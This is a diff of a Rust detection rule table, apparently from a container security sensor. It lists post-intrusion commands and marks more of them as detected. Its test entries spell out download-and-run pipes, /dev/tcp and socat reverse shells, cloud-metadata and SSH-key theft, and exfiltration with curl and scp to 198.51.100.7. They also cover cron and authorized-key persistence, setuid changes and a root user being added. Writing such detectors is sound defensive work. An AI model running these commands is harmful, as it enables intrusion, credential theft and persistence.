@@ -1,15 +1,15 @@
 //! What is typed once somebody is in.
+//!
+//! What a shell is fed with is started before it here, as it mostly is in a pipe.
 
 use super::Way::{Exec, Typed};
 use super::rules::{
-    CLUSTER, ENCODED, EXECUTABLE, FED, HISTORY, METADATA, MINER, PIPED, PLANTED, REVERSE, SECRET, SENSOR, TOOL, TUNNEL,
+    CLUSTER, DEBUGGER, ENCODED, EXECUTABLE, FED, HISTORY, METADATA, MINER, PIPED, PLANTED, REVERSE, RIGHTS_GIVEN,
+    SECRET, SENSOR, SENT, TOOL, TUNNEL,
 };
-use super::{Technique, UNKNOWN_FORM, missed, told};
+use super::{Technique, missed, told};
 
-const RIGHTS_GIVEN: &str = "Rights or accounts made in a container";
-const SENT: &str = "File sent out of a container";
-
-pub(super) const TECHNIQUES: [Technique; 61] = [
+pub(super) const TECHNIQUES: [Technique; 60] = [
     told(
         "a-download-run",
         Exec,
@@ -19,50 +19,44 @@ pub(super) const TECHNIQUES: [Technique; 61] = [
     told(
         "a-download-run-at-a-prompt",
         Typed,
-        "curl -s http://198.51.100.7/x | sh",
+        "echo | { curl -s http://198.51.100.7/x; sh; :; }",
         &[FED],
     ),
-    missed(
+    told(
         "a-download-run-with-an-option",
         Typed,
-        "curl -s http://198.51.100.7/x | sh -u",
+        "echo | { curl -s http://198.51.100.7/x; sh -u; :; }",
         &[FED],
-        UNKNOWN_FORM,
     ),
-    missed(
+    told(
         "a-download-run-behind-dashes",
         Typed,
-        "curl -s http://198.51.100.7/x | bash --",
+        "echo | { curl -s http://198.51.100.7/x; bash --; :; }",
         &[FED],
-        UNKNOWN_FORM,
     ),
-    missed(
+    told(
         "a-download-run-by-a-language",
         Typed,
-        "curl -s http://198.51.100.7/x | perl",
+        "echo | { curl -s http://198.51.100.7/x; perl; :; }",
         &[FED],
-        UNKNOWN_FORM,
     ),
-    missed(
+    told(
         "a-download-without-a-scheme",
         Typed,
-        "curl -s 198.51.100.7/x | sh",
+        "echo | { curl -s 198.51.100.7/x; sh; :; }",
         &[FED],
-        UNKNOWN_FORM,
     ),
-    missed(
+    told(
         "a-download-by-a-file-of-options",
         Typed,
-        "echo url=x | curl -K - | sh",
+        "echo url=x | { curl -K -; sh; :; }",
         &[FED],
-        UNKNOWN_FORM,
     ),
-    missed(
+    told(
         "a-decoder-into-the-box",
         Typed,
-        "echo aWQ= | base64 -d | busybox sh",
+        "echo aWQ= | { base64 -d; busybox sh; :; }",
         &[FED],
-        UNKNOWN_FORM,
     ),
     told(
         "an-encoded-payload",
@@ -82,12 +76,11 @@ pub(super) const TECHNIQUES: [Technique; 61] = [
         "cd /tmp; curl -O http://198.51.100.7/a; chmod 755 a",
         &[EXECUTABLE],
     ),
-    missed(
+    told(
         "a-download-made-a-program-for-two",
         Typed,
         "curl -o /tmp/b http://198.51.100.7/b; chmod u+x,g+x /tmp/b",
         &[EXECUTABLE],
-        UNKNOWN_FORM,
     ),
     told(
         "a-download-made-a-program-exactly",
@@ -95,17 +88,10 @@ pub(super) const TECHNIQUES: [Technique; 61] = [
         "curl -o /tmp/c http://198.51.100.7/c; chmod a=rx /tmp/c",
         &[EXECUTABLE],
     ),
-    missed(
+    told(
         "a-download-installed",
         Typed,
         "curl -o /tmp/d http://198.51.100.7/d; install -m 755 /tmp/d /tmp/e",
-        &[EXECUTABLE],
-        UNKNOWN_FORM,
-    ),
-    told(
-        "a-download-through-a-pipe",
-        Typed,
-        "curl http://198.51.100.7/f >/tmp/f; chmod +x /tmp/f",
         &[EXECUTABLE],
     ),
     told(
@@ -120,19 +106,17 @@ pub(super) const TECHNIQUES: [Technique; 61] = [
         "bash -c 'sh -i -e >& /dev/tcp/127.0.0.1/9 0>&1'",
         &[REVERSE],
     ),
-    missed(
+    told(
         "devices-of-bash-read-in-a-loop",
         Exec,
         "bash -c 'exec 5<>/dev/tcp/127.0.0.1/9; while read l <&5; do eval \"$l\" >&5; done'",
         &[REVERSE],
-        UNKNOWN_FORM,
     ),
-    missed(
+    told(
         "devices-of-bash-in-a-variable",
         Exec,
         "bash -c 'd=tcp; bash -i >& /dev/$d/127.0.0.1/9 0>&1'",
         &[REVERSE],
-        UNKNOWN_FORM,
     ),
     told(
         "netcat-runs-a-shell",
@@ -164,26 +148,24 @@ pub(super) const TECHNIQUES: [Technique; 61] = [
         "socat TCP:198.51.100.7:443 EXEC:sh,pty",
         &[REVERSE],
     ),
-    missed(
+    told(
         "socat-runs-what-is-no-shell-by-name",
         Exec,
         "socat TCP:198.51.100.7:443 EXEC:/tmp/x,pty",
         &[REVERSE, TUNNEL],
-        UNKNOWN_FORM,
     ),
     missed(
         "a-shell-behind-a-socket",
         Exec,
         "socat --starts socket sh",
         &[REVERSE],
-        UNKNOWN_FORM,
+        "no field tells what the descriptors are",
     ),
-    missed(
+    told(
         "an-interactive-shell-behind-a-socket",
         Exec,
         "python3.11 --starts socket bash -il",
         &[REVERSE],
-        UNKNOWN_FORM,
     ),
     told(
         "a-connection-in-a-language",
@@ -192,19 +174,17 @@ pub(super) const TECHNIQUES: [Technique; 61] = [
         &[REVERSE],
     ),
     told("a-listener", Exec, "nc -lvp 4444", &[TUNNEL]),
-    missed(
+    told(
         "a-listener-by-an-abbreviation",
         Exec,
         "socat TCP-L:4444,fork TCP:10.0.0.5:22",
         &[TUNNEL],
-        UNKNOWN_FORM,
     ),
-    missed(
+    told(
         "a-listener-of-openssl",
         Exec,
         "openssl s_server -accept 4444 -quiet",
         &[TUNNEL],
-        UNKNOWN_FORM,
     ),
     told(
         "a-way-backwards",
@@ -212,12 +192,11 @@ pub(super) const TECHNIQUES: [Technique; 61] = [
         "ssh -fNR 2222:localhost:22 x@198.51.100.7",
         &[TUNNEL],
     ),
-    missed(
+    told(
         "a-way-backwards-by-option",
         Exec,
         "ssh -o RemoteForward=2222:localhost:22 x@198.51.100.7",
         &[TUNNEL],
-        UNKNOWN_FORM,
     ),
     told(
         "credentials-of-the-cloud",
@@ -225,12 +204,11 @@ pub(super) const TECHNIQUES: [Technique; 61] = [
         "curl http://169.254.169.254/latest/meta-data/iam/security-credentials/x",
         &[METADATA],
     ),
-    missed(
+    told(
         "credentials-of-the-cloud-by-another-number",
         Exec,
         "curl http://0xA9.0xFE.0xA9.0xFE/latest/meta-data/iam/security-credentials/x",
         &[METADATA],
-        UNKNOWN_FORM,
     ),
     told(
         "environment-of-the-first-process",
@@ -238,12 +216,11 @@ pub(super) const TECHNIQUES: [Technique; 61] = [
         "cat /proc/1/environ",
         &[SECRET],
     ),
-    missed(
+    told(
         "environment-by-a-detour",
         Exec,
         "cat /proc/self/../1/environ",
         &[SECRET],
-        UNKNOWN_FORM,
     ),
     told("a-key", Exec, "cat /root/.ssh/id_ed25519", &[SECRET]),
     told(
@@ -252,39 +229,30 @@ pub(super) const TECHNIQUES: [Technique; 61] = [
         "curl -F f=@/root/.ssh/id_ed25519 http://198.51.100.7/",
         &[SECRET, SENT],
     ),
-    missed(
+    told(
         "a-file-sent-away",
         Exec,
         "curl -T /etc/passwd http://198.51.100.7/",
         &[SENT],
-        UNKNOWN_FORM,
     ),
-    missed(
+    told(
         "folders-sent-away",
         Exec,
         "tar czf - /root /etc | curl --data-binary @- http://198.51.100.7/",
         &[SENT],
-        UNKNOWN_FORM,
     ),
-    missed(
-        "folders-copied-away",
-        Exec,
-        "scp -r /root x@198.51.100.7:/tmp",
-        &[SENT],
-        UNKNOWN_FORM,
-    ),
+    told("folders-copied-away", Exec, "scp -r /root x@198.51.100.7:/tmp", &[SENT]),
     told(
         "credentials-of-the-kubelet",
         Exec,
         "tar c /var/lib/kubelet/pki/kubelet-client-current.pem",
         &[SECRET],
     ),
-    missed(
+    told(
         "credentials-of-the-kubelet-as-a-folder",
         Exec,
         "tar c /var/lib/kubelet",
         &[SECRET],
-        UNKNOWN_FORM,
     ),
     told(
         "a-question-to-the-cluster",
@@ -292,19 +260,17 @@ pub(super) const TECHNIQUES: [Technique; 61] = [
         "kubectl auth can-i --list",
         &[CLUSTER],
     ),
-    missed(
+    told(
         "secrets-of-the-cluster-by-hand",
         Exec,
         "curl -k -H 'Authorization: Bearer x' https://kubernetes.default.svc/api/v1/secrets",
         &[CLUSTER],
-        UNKNOWN_FORM,
     ),
-    missed(
+    told(
         "a-pod-by-the-kubelet",
         Exec,
         "curl -k https://10.0.0.1:10250/run/default/x/y -d cmd=id",
         &[CLUSTER],
-        UNKNOWN_FORM,
     ),
     told("a-history-removed", Exec, "rm -f /root/.bash_history", &[HISTORY]),
     told(
@@ -314,7 +280,7 @@ pub(super) const TECHNIQUES: [Technique; 61] = [
         &[HISTORY],
     ),
     told("a-job-planted", Exec, "crontab /tmp/job", &[PLANTED]),
-    missed("a-job-for-once", Exec, "at -f /tmp/job now", &[PLANTED], UNKNOWN_FORM),
+    told("a-job-for-once", Exec, "at -f /tmp/job now", &[PLANTED]),
     told("a-job-copied", Exec, "cp /etc/passwd /etc/cron.d/job", &[PLANTED]),
     told(
         "a-key-planted",
@@ -322,48 +288,27 @@ pub(super) const TECHNIQUES: [Technique; 61] = [
         "tee -a /root/.ssh/authorized_keys </dev/null",
         &[PLANTED],
     ),
-    missed(
+    told(
         "rights-for-a-file",
         Exec,
         "setcap cap_setuid+ep /usr/bin/perl",
         &[RIGHTS_GIVEN],
-        UNKNOWN_FORM,
     ),
-    missed(
+    told(
         "rights-of-its-owner",
         Exec,
         "chmod u+s /bin/sh; chmod 4755 /bin/sh",
         &[RIGHTS_GIVEN],
-        UNKNOWN_FORM,
     ),
-    missed(
-        "a-user-made",
-        Exec,
-        "useradd -o -u 0 -g 0 helper",
-        &[RIGHTS_GIVEN],
-        UNKNOWN_FORM,
-    ),
-    missed(
-        "a-password-set",
-        Exec,
-        "echo root:x | chpasswd",
-        &[RIGHTS_GIVEN],
-        UNKNOWN_FORM,
-    ),
+    told("a-user-made", Exec, "useradd -o -u 0 -g 0 helper", &[RIGHTS_GIVEN]),
+    told("a-password-set", Exec, "echo root:x | chpasswd", &[RIGHTS_GIVEN]),
     told("a-scanner-started", Exec, "nmap -sT 10.0.0.0/24", &[TOOL]),
     told("a-miner-started", Exec, "xmrig -o pool:3333", &[MINER]),
-    missed(
+    told(
         "another-process-looked-into",
         Exec,
         "strace -p 1; gdb -p 1 -batch",
-        &[TOOL],
-        UNKNOWN_FORM,
+        &[DEBUGGER],
     ),
-    missed(
-        "the-sensor-looked-for",
-        Exec,
-        "busybox pidof tidewaiter",
-        &[SENSOR],
-        UNKNOWN_FORM,
-    ),
+    told("the-sensor-looked-for", Exec, "busybox pidof tidewaiter", &[SENSOR]),
 ];
